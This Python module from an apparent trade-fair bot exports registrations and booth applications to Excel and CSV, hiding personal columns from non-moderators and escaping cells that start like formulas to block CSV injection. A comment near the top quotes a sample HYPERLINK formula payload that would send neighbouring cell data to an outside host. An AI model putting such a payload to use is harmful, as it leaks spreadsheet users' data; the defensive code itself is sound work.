"""Registrations and booth applications as tables, written as .xlsx (openpyxl) or .csv."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any, Final, Literal

from bot.core.i18n import N_, Lang
from bot.domain.enterprise_terms import KIND_NAMES, PRACTICE_NAMES, ROLE_NAMES, ward_label
from bot.domain.enterprise_terms import STATUS_NAMES as REGISTRATION_STATUS
from bot.domain.phones import format_phone
from bot.domain.sectors import sector_name
from bot.domain.taxcode import mask_tax_code
from bot.services.link_figures import LinkLine, pair_name
from storage.enterprises import Enterprise
from storage.reports import BoothRow

__all__ = [
    "BOOTH_STATUS",
    "Table",
    "booth_table",
    "enterprise_table",
    "link_table",
    "neutral",
    "to_csv",
    "to_xlsx",
]

Kind = Literal["text", "number", "date", "datetime"]
_FORMATS: Final = {"date": "DD/MM/YYYY", "datetime": "DD/MM/YYYY HH:MM"}
_MIN_WIDTH, _MAX_WIDTH = 8, 50
# OWASP, "CSV Injection": a cell starting with one of these is taken for a formula by Excel,
# LibreOffice or Google Sheets; a registrant named =HYPERLINK("http://…?x="&A1,"…") would
# send whatever the staff's sheet holds beside it to a stranger with one click.
_FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
# A number typed with its country code calls nothing, and a text cell shows it as typed.
_PHONE: Final = re.compile(r"\+\d[\d ().-]*")

# As staff read them (the applicants' wording is in bot/services/fair_view.py).
BOOTH_STATUS: Final = {
    "allocated": N_("booths held, to approve"),
    "waitlisted": N_("waiting list"),
    "offered": N_("freed booths offered"),
    "approved": N_("approved"),
    "rejected": N_("rejected"),
    "withdrawn": N_("withdrawn"),
    "declined": N_("offer declined"),
    "expired": N_("offer expired"),
}


@dataclass(frozen=True)
class Column:
    """A column: its header (English source text) and what its cells hold."""

    header: str
    kind: Kind = "text"
    personal: bool = False  # phones and tax codes: only for moderators and above


@dataclass
class Table:
    """Translated headers, cell kinds and rows; dates are local and naive."""

    headers: list[str]
    kinds: list[Kind]
    rows: list[list[Any]]


_ENTERPRISE: Final = (
    Column(N_("Reference")),
    Column(N_("Establishment name")),
    Column(N_("Kind")),
    Column(N_("Role in the chain")),
    Column(N_("Crafts")),
    Column(N_("Ward or commune")),
    Column(N_("Province")),
    Column(N_("Address")),
    Column(N_("Contact person")),
    Column(N_("Phone"), personal=True),
    Column(N_("Tax code"), personal=True),
    Column(N_("OCOP stars"), "number"),
    Column(N_("Main products")),
    Column(N_("Sustainable practices")),
    Column(N_("Status")),
    Column(N_("Reason")),
    Column(N_("Registered on"), "datetime"),
    Column(N_("Sent for review on"), "datetime"),
    Column(N_("Reviewed on"), "datetime"),
)

_BOOTH: Final = (
    Column(N_("Application")),
    Column(N_("Fair")),
    Column(N_("Fair key")),
    Column(N_("Fair opens"), "datetime"),
    Column(N_("Establishment name")),
    Column(N_("Reference")),
    Column(N_("Contact person")),
    Column(N_("Phone"), personal=True),
    Column(N_("Tax code"), personal=True),
    Column(N_("Ward or commune")),
    Column(N_("Crafts")),
    Column(N_("Booths"), "number"),
    Column(N_("Booth numbers")),
    Column(N_("Products")),
    Column(N_("Special needs")),
    Column(N_("Status")),
    Column(N_("Reason")),
    Column(N_("Applied on"), "datetime"),
    Column(N_("Checked in"), "datetime"),
)


def _local(lang: Lang, moment: datetime | None) -> datetime | None:
    """A moment as a naive local datetime: Excel has no time zones."""
    return lang.local(moment).replace(tzinfo=None) if moment is not None else None


def _place(lang: Lang, ward_code: str | None) -> str:
    return ward_label(ward_code, lang.gettext) if ward_code else ""


def _table(columns: tuple[Column, ...], rows: list[list[Any]], lang: Lang, personal: bool) -> Table:
    keep = [i for i, c in enumerate(columns) if personal or not c.personal]
    return Table(
        headers=[lang.gettext(columns[i].header) for i in keep],
        kinds=[columns[i].kind for i in keep],
        rows=[[row[i] for i in keep] for row in rows],
    )


def enterprise_table(items: list[Enterprise], lang: Lang, *, personal: bool) -> Table:
    """One row per registration; phones and tax codes only when `personal`, personal ID
    numbers masked even then (reviewers see them whole in the chat)."""
    _ = lang.gettext

    def names(table: dict[str, str], keys: list[str]) -> str:
        return ", ".join(_(table[k]) if k in table else k for k in keys)

    rows = [
        [
            e.reference,
            e.name,
            names(KIND_NAMES, [e.kind]),
            names(ROLE_NAMES, e.roles),
            ", ".join(sector_name(k, _) for k in e.sectors),
            _place(lang, e.ward_code),
            e.province or ("Hà Nội" if e.ward_code else ""),
            e.address or "",
            e.contact_name,
            format_phone(e.phone),
            mask_tax_code(e.tax_code),
            e.ocop_stars,
            e.products or "",
            names(PRACTICE_NAMES, e.practices),
            names(REGISTRATION_STATUS, [e.status.value]),
            e.reject_reason or "",
            _local(lang, e.created_at),
            _local(lang, e.submitted_at),
            _local(lang, e.reviewed_at),
        ]
        for e in items
    ]
    return _table(_ENTERPRISE, rows, lang, personal)


def booth_table(items: list[BoothRow], lang: Lang, *, personal: bool) -> Table:
    """One row per booth application; phones and tax codes only when `personal`."""
    _ = lang.gettext
    rows = [
        [
            f"#{b.id}",
            b.fair_title_en if lang.code == "en" and b.fair_title_en else b.fair_title_vi,
            b.fair_key,
            _local(lang, b.fair_starts_at),
            b.enterprise_name,
            b.enterprise_reference or "",
            b.contact_name,
            format_phone(b.phone),
            mask_tax_code(b.tax_code),
            _place(lang, b.ward_code) or (b.province or ""),
            ", ".join(sector_name(k, _) for k in b.sectors),
            b.booths,
            ", ".join(b.booth_numbers),
            b.products,
            b.needs,
            _(BOOTH_STATUS[b.status]) if b.status in BOOTH_STATUS else b.status,
            b.reason or "",
            _local(lang, b.created_at),
            _local(lang, b.checked_in_at),
        ]
        for b in items
    ]
    return _table(_BOOTH, rows, lang, personal)


_LINKS: Final = (
    Column(N_("Month")),
    Column(N_("Pair along the chain")),
    Column(N_("Craft")),
    Column(N_("Requests asked"), "number"),
    Column(N_("Accepted"), "number"),
    Column(N_("Declined"), "number"),
)


def link_table(lines: list[LinkLine], lang: Lang) -> Table:
    """The links members made (requests to connect), a row per month, pair and craft."""
    _ = lang.gettext
    rows = [
        [
            x.month,
            pair_name(x.chain_pair, lang),
            sector_name(x.sector, _) if x.sector else "",
            x.asked,
            x.accepted,
            x.declined,
        ]
        for x in lines
    ]
    return _table(_LINKS, rows, lang, personal=False)


def neutral(text: str, *, in_workbook: bool = False) -> str:
    """`text` with a leading apostrophe if a spreadsheet would take it for a formula
    (OWASP's advice). In a workbook, where every text is a text cell, a phone number such as
    `+84 912 345 678` stays as typed; in a CSV file Excel would still read it as a sum."""
    if not (text.startswith(_FORMULA_START) or text.lstrip().startswith(_FORMULA_START)):
        return text
    if in_workbook and _PHONE.fullmatch(text):
        return text
    return "'" + text


def _width(header: str, values: list[Any], kind: Kind) -> float:
    """Wide enough for the header and most cells, within bounds."""
    if kind in _FORMATS:
        longest = len(_FORMATS[kind])
    else:
        lengths = sorted(len(str(v)) for v in values if v is not None)
        # the 90th percentile: one long description should not make the column huge
        longest = lengths[int(len(lengths) * 0.9)] if lengths else 0
    return float(min(max(len(header), longest, _MIN_WIDTH) + 2, _MAX_WIDTH))


def to_xlsx(table: Table, sheet_title: str) -> bytes:
    """A workbook with one sheet: bold, frozen header row; dates as real dates."""
    # Imported here: openpyxl, with NumPy and Pillow that it loads when installed, adds some
    # 20 MB to every process that imports it; only staff exports need it.
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = sheet_title[:31]  # Excel's limit for sheet names
    ws.append(table.headers)
    for row in table.rows:
        ws.append([neutral(v, in_workbook=True) if isinstance(v, str) else v for v in row])
    bold = Font(bold=True)
    for cell in ws[1]:
        cell.font = bold
        cell.alignment = Alignment(vertical="center", wrap_text=True)
    for i, (header, kind) in enumerate(zip(table.headers, table.kinds, strict=True), start=1):
        letter = get_column_letter(i)
        column = [row[i - 1] for row in table.rows]
        ws.column_dimensions[letter].width = _width(header, column, kind)
        if kind in _FORMATS:
            for (cell,) in ws.iter_rows(min_row=2, min_col=i, max_col=i):
                cell.number_format = _FORMATS[kind]
        elif kind == "text":
            # openpyxl makes a formula of any str starting with "=": text is text, whatever
            # it starts with
            for (cell,) in ws.iter_rows(min_row=2, min_col=i, max_col=i):
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    ws.freeze_panes = "B2"  # the header row and the first column stay in view
    if table.rows:
        ws.auto_filter.ref = ws.dimensions
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _csv_cell(value: Any) -> Any:
    if isinstance(value, str):
        return neutral(value)
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return "" if value is None else value


def to_csv(table: Table) -> bytes:
    """UTF-8 with a byte order mark, so that Excel reads the Vietnamese right."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(table.headers)
    for row in table.rows:
        writer.writerow([_csv_cell(v) for v in row])
    return out.getvalue().encode("utf-8-sig")
